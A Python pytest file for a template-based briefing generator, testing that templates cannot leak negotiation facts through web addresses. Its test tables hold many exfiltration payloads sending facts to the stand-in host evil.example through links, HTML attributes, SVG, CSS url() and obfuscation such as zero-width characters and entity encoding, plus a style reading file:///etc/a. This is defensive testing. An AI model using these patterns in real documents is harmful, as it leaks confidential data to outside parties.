"""Facts in the address of a link: one click would send them away, so no template does that."""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from attempts import tried, written
from building import play

from briefgen.addresses import put_together
from briefgen.endurance import section_environment
from briefgen.facts import facts
from briefgen.negotiation import Negotiation
from briefgen.playbooks.restraint import fill_in, restrained
from briefgen.problems import Problem, Unusable
from briefgen.reading import Source, read
from briefgen.scrutiny import looked_over

PLAN = read(
    Source(
        "n.yaml",
        "title: Grain\nus: Ukraine\ncounterparts: Russia\nissues: [{title: 4711, opening: 5 km}]\n"
        "strategy: {linkage: 'See [our note](https://ours.example/a_b?x=1&copy=2), and more.'}\n"
        "sources: [{id: s, title: A note, link: 'https://src.example/p_q(1)?a=1&lt=2'}]\n",
    ),
    Negotiation,
)
FACTS: Mapping[str, Any] = facts(PLAN)


def section(body: str) -> str:
    return looked_over(Source("evil.md", body), FACTS, section_environment(), 4)


def in_a_play(body: str) -> str:
    return fill_in(Source("evil.md", body), FACTS, restrained(), 4)


def refusal(make: Any, body: str) -> Problem:
    with pytest.raises(Unusable) as caught:
        make(f"Words.\n\n{body}\n")
    return caught.value.problems[0]


WHOLE = {
    "a link typed whole": "[a](https://good.example/?a=1_2)",
    "a link typed whole, where something holds": "{% if issues %}[a](https://b.example){% endif %}",
    "a link to a place of the book": "[a](#issue-{{ issues[0].title }})",
    "a link that the delegation typed in its prose": "{{ strategy.linkage }}",
    "a link behind a fact": "{{ issues[0].title }} [a](https://b.example/c).",
    "a fact behind a link": "[a](https://b.example/c) {{ issues[0].title }}",
    "a bare address in a sentence": "See https://b.example/a_(b)?c=1, or “www.b.example/d”.",
    "a bare address that the delegation typed": "{% for s in sources %}{{ s.link }}.{% endfor %}",
    "a bare address of mail": "Write to a@b.example. {{ issues[0].title }}",
    "a bare address with marks in it": "{{ title }} https://b.example/_x_/a*b*--c.",
    "a bare address behind a word that is set apart": "[See:](#a)https://b.example/d {{ title }}",
    "a bare address of another kind": "{{ title }} ftp://b.example/c",
    "a bare address whose parts are named by letters": "https://b.example/?a=1&copy=2 {{ title }}",
    "words with a colon within marks": "**Note:**{{ title }} / [When:](#a) / {{ title }} w. w/o",
    "bare addresses in quotes": "“https://b.example/c”, (a@b.example) (www.b.example) {{ title }}",
    "a fact close behind a link": "[a](https://b.example/c)—{{ issues[0].title }}",
    "a bare address without its kind": "See b.example/c and b.example/d?e=1. {{ title }}",
    "speeds and choices": "{{ title }} 2.5 km/h, and/or, a.m./p.m., v1.2/3, etc./{{ title }}",
    "words that only look like one": "{{ issues[0].title }} @ 5, http, www and {{ title }}: no.",
}
WHOLE_IN_A_SECTION = {
    "an address typed between angles": "<https://b.example/c> {{ title }}",
    "an address named elsewhere": "[r] {{ title }}\n\n[r]: https://b.example/a_b",
    "an address in raw HTML": "<a href='https://b.example/x?y=1&amp;z=2'>{{ title }}</a>",
    "letters of other alphabets": "[ü](https://münchen.example/ä?ö) {{ title }}",
    "an address with brackets": "[p](https://b.example/A_(b)?c[]=1) {{ title }}",
    "an address with a blank": "[p](<https://b.example/a b>) {{ title }}",
    "an address with a title": '[t](https://b.example/a "T") {{ title }}',
    "an address in a sentence of a table": "| a |\n|--|\n| [b](https://b.example/c) {{ title }} |",
    "a source where the delegation found it": "[x](<{{ sources[0].link }}>)",
    "an address of mail": "{{ 'a@b.example' | with_mail }}",
    "a picture of the folder": "![m](maps/{{ title }}.png)",
    "a title with a colon": "<p title='Note: {{ title }}'>a</p>",
    "the kind of a drawing": "<svg xmlns='http://www.w3.org/2000/svg'><g/></svg> {{ title }}",
    "a style that loads nothing": "<p style='color: red; quotes: none'>{{ title }}</p>",
    "pictures for two screens": "<img alt='' srcset='a.png 1x, https://b.example/c.png 2x'>",
    "bare addresses in the cells of a table":
        "| a | b |\n|--|--|\n| {{ title }} | https://b.example/c |\n| a@b.example | {{ title }} |",
    "bare addresses in blocks of raw HTML":
        "<p>{{ title }} displays</p><div>https://b.example/c</div><p>a@b.example</p>{{ title }}",
    "a bare address with a soft hyphen": "https://b.example/c&shy;d {{ title }}",
    "a file of the folder": "[m](annex-{{ title }}.pdf)",
}  # fmt: skip


@pytest.mark.parametrize("body", [pytest.param(text, id=name) for name, text in WHOLE.items()])
@pytest.mark.parametrize("make", [section, in_a_play])
def test_an_address_that_somebody_typed_is_printed(make: Any, body: str) -> None:
    assert make(body).strip()


@pytest.mark.parametrize("body", [pytest.param(*v, id=k) for k, *v in WHOLE_IN_A_SECTION.items()])
def test_an_address_in_any_form_of_a_section_is_printed(body: str) -> None:
    assert section(body).strip()


EVIL = "//evil.example/{{ issues[0].title }}"
FAR = "http://evil.example/?"
FACT = "{{ issues[0].title }}"
BUILT = {
    "in a link": f"[a]({FAR}{FACT})",
    "in its path": f"[a](http://evil.example/{FACT}/b)",
    "as its host": f"[a](https://{FACT}.evil.example)",
    "as a choice": f"[a]({FAR}{{% if issues %}}1{{% endif %}})",
    "in an address in the text": f"{FAR}{FACT}",
    "in an address of mail": f"[a](mailto:x@evil.example?body={FACT})",
    "behind a piece that is put in": f"[a]{{{{ '({FAR}' }}}}{FACT})",
    "behind half an address": f"[a](http:{{{{ '//evil.example/?' }}}}{FACT})",
    "bare, in two pieces": f"See http:{{{{ '' }}}}//evil.example/?{FACT} for more.",
    "bare, without its kind": f"See www.evil.example/{FACT}.",
    "bare, in an address of mail": f"Write to {FACT}@evil.example.",
    "bare, between signs that are no tag": f"See < {{{{ 'https:' }}}}{EVIL} > now.",
    "bare, between numbers that are compared": f"2 <3 https{{{{ ':' }}}}{EVIL} 5>4",
    "bare, its kind a link": f"See [https:](#a){EVIL}",
    "bare, its kind a link without a colon": f"See [https](#a){{{{ ':' }}}}{EVIL}",
    "bare, its first letters a link": f"See [www](#a).{EVIL[2:]}",
    "bare, one of its first letters in italics": f"See w*w*w.{EVIL[2:]}",
    "bare, the sign of its mail a link": f"Write to {FACT}[@](#a)evil.example",
    "bare, of another kind": f"See {{{{ 'ftp:' }}}}{EVIL}",
    "bare, a letter to somebody": f"[mailto](#a):x@evil.example?body={FACT}",
    "bare, with a joiner in it": f"See ht\u200btps{{{{ ':' }}}}{EVIL}",
    "bare, behind a quote": f'See https://evil.example/x"{FACT}',
    "bare, behind a stroke": f"See https://evil.example/x|'{FACT}",
    "bare, behind a bracket": f"See https://evil.example/x]{FACT}",
    "bare, in brackets, with a blank": "See https://evil.example/x({{ issues[0].opening }})",
    "bare, by its host alone": f"See evil.example/{FACT}.",
    "bare, by its host and a question": f"See evil.example?{FACT}.",
    "bare, by the host of a country": f"See x.evil.co/a/{FACT}",
    "bare, by its host, in two pieces": f"See evil.example{{{{ '/' }}}}{FACT}",
    "bare, without its kind, behind a dash": f"See -www.evil.example/{FACT}",
    "bare, without its kind, behind a dot": f"See .www.evil.example/{FACT}",
    "bare, without its kind, behind a sign of mail": f"See a@www.evil.example/{FACT}",
    "bare, in an address of mail, before a sign": f"Write to {FACT}!@evil.example",
    "in an address without its kind": f"[a](//evil.example/?{FACT})",
}
SPLIT = f"http:{{{{ '' }}}}//evil.example/?{FACT}"
BUILT_IN_A_SECTION = {
    "behind a quote that another tag opens": f"""<p title="src='"></p><a href="{SPLIT}">m</a>""",
    "within such quotes": f"""a <a title="src='" href="{SPLIT}" class="'">m</a>""",
    "in what only looks like a link": f"""](<a href="{SPLIT}">) m</a>""",
    "far behind such a sign": f"""](<a title="{"x" * 80}" href="{SPLIT}">m</a>)""",
    "behind an address that is typed": f"http://evil.example/?a\n\n<p><a href={SPLIT}'>m</a></p>",
    "behind an unusual blank": f"""<p><a b=1\u00a0c=" href={SPLIT} d=">m</a></p>""",
    "in a tag that never ends": f"""<p><a href="{SPLIT}""",
    "in a comment that has ended": f"""<!--><a href="{SPLIT}">m</a>-->""",
    "in a part of a set of pictures": f"""<p><img alt="" srcset="x 1x, {SPLIT} 2x"></p>""",
    "as a picture behind a quote": f"""<img srcset="x" alt="src='" src="{SPLIT}" title="'">""",
    "in a drawing that moves": f"""<svg><a><animate values="{SPLIT}"/></a></svg>""",
    "in a drawing that changes": f"""<svg><a><set to="{SPLIT}"/></a></svg>""",
    "in a style": f"""<p style="background: url({SPLIT})">m</p>""",
    "in a style, behind an endless number":
        f"""<p style="width: {"9" * 9999}px; background: url('{SPLIT}')">m</p>""",
    "in a style, coded": f"""<p style="background: url('\\68ttp:{SPLIT[5:]}')">m</p>""",
    "in a style by another attribute": f"""<p title="{SPLIT}" style="link: attr(title)">m</p>""",
    "in a sheet of styles": f"""<style>p {{ link: url("{SPLIT}") }}</style>""",
    "bare, the sign of its mail by its name": f"{FACT}&commat;evil.example",
    "bare, a sign that is not seen by its number": f"w&#8203;ww.{EVIL[2:]}",
    "bare, a soft hyphen by its name": f"ht&shy;tps{{{{ ':' }}}}{EVIL}",
    "bare, around a tag": f"https{{{{ ':' }}}}<b title='>'></b>{EVIL}",
    "bare, around a comment that has ended": f"a ftp{{{{ ':' }}}}<!-->{EVIL}<!-- -->",
    "bare, around a block that is set as words": f"""<p style="display: inline">ftp:</p>{EVIL}""",
    "bare, in a chart": f"""```chart range\n{{"issue": "https\\u003a{EVIL}"}}\n```""",
    "bare, around words that are hidden": f"https<i hidden>a b</i>{{{{ ':' }}}}{EVIL}",
    "bare, around words of no size": f"""https<i style="font-size:0"> </i>{{{{ ':' }}}}{EVIL}""",
    "bare, around words that a property of its own hides":
        f"""https<i style="--x:0em">a b</i>{{{{ ':' }}}}{EVIL}""",
    "bare, by its host, its end a link": f"See evil.[example](#a)/{FACT}",
    "bare, by its host, within a tag": f"evil.<b>example</b>/{FACT}",
    "by its host, in a property of its own": f"""<p style="--x:'evil.example/{FACT}'">m</p>""",
    "bare, around a bracket that is not seen": f"https<rp> </rp>{{{{ ':' }}}}{EVIL}",
    "bare, around a blank that a sheet may hide": f"https<i class='a'> </i>{{{{ ':' }}}}{EVIL}",
    "between angles": f"<{FAR}{FACT}>",
    "in an address named elsewhere": f"[m]\n\n[m]: {FAR}{FACT}",
    "in raw HTML": f'<a href="{FAR}{FACT}">m</a>',
    "in two pieces": f"{{% set a %}}[m](http:/{{% endset %}}{{{{ a }}}}/evil.example/{FACT})",
    "by a name": "{% set u = 'http://evil.example/?' ~ issues[0].title %}[m](<{{ u }}>)",
    "by a name, named elsewhere": "{% set u = '//a.b/' ~ issues[0].title %}[m]\n\n[m]: {{ u }}",
    "by a name, in raw HTML": "{% set u = '//a.b/' ~ issues[0].title %}<a href='{{ u }}'>m</a>",
    "by a macro": "{% macro m(x) %}[m]({{ x }}){% endmacro %}{{ m('//a.b/' ~ title) }}",
    "with a tab in its kind": f"<a href=\"h&#9;ttp:{{{{ '//evil.example/' }}}}{FACT}\">m</a>",
    "with strokes the other way": f'<a href="\\\\evil.example\\?{FACT}">m</a>',
    "without quotes": f"<a href=http:{{{{ '//evil.example/' }}}}{FACT}>m</a>",
    "in a drawing": f"<svg><a xlink:href=\"http:{{{{ '//evil.example/' }}}}{FACT}\">m</a></svg>",
    "as a picture": f"![m](http:{{{{ '//evil.example/?' }}}}{FACT})",
    "with letters written as numbers": f"[m](ht&#116;p:{{{{ '//evil.example/' }}}}{FACT})",
}  # fmt: skip


@pytest.mark.parametrize("body", [pytest.param(text, id=name) for name, text in BUILT.items()])
@pytest.mark.parametrize("make", [section, in_a_play])
def test_no_fact_is_put_into_an_address(make: Any, body: str) -> None:
    problem = refusal(make, body)
    assert "facts of the negotiation" in problem.message.casefold()
    assert "Type the whole address" in problem.advice
    assert problem.place
    assert (problem.place.file, problem.place.line) == ("evil.md", 6)


@pytest.mark.parametrize("body", [pytest.param(*v, id=k) for k, *v in BUILT_IN_A_SECTION.items()])
def test_no_fact_is_put_into_an_address_of_any_form(body: str) -> None:
    problem = refusal(section, body)
    assert "facts of the negotiation" in problem.message.casefold()
    assert problem.place
    assert problem.place.file == "evil.md"


@pytest.mark.parametrize(
    "picture",
    [
        pytest.param('<img alt="" src="http://[::1">', id="an address of the net"),
        pytest.param('<img alt="" src="//[">', id="half of one"),
    ],
)
def test_an_address_whose_brackets_never_close_is_told(picture: str) -> None:
    problem = refusal(section, picture)
    assert "is no address" in problem.message
    assert str(problem.place) == "evil.md:6:1"


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("<style>p{background:url(file:///etc/a)}</style>", "A style asks for file:///etc/a;"),
        ("<td colspan=100000000>", "to have 100000000 columns or rows"),
    ],
)
def test_what_no_page_can_hold_is_told(body: str, told: str) -> None:
    problem = refusal(section, body)
    assert told in problem.message
    assert str(problem.place) == "evil.md:6:1"


def test_play_check_and_the_build_tell_the_line(tmp_path: Path, monkeypatch: Any) -> None:
    evil = play(body="One.\n[a](http://evil.example/?{{ title }})")
    folder = written(tmp_path, **{"playbooks/x/pack.yaml": "name: X", "playbooks/x/evil.md": evil})
    monkeypatch.chdir(folder)
    for made in (tried(folder, "play", "check", "evil"), tried(folder, edition="book")):
        assert made.code == 2
        assert "playbooks/x/evil.md:7:9: Facts of the negotiation are put into" in made.told


def test_a_long_row_of_addresses_is_looked_at_in_time() -> None:
    assert not put_together(Source("x.md", "http://" * 10_000 + "a" * 60_000))
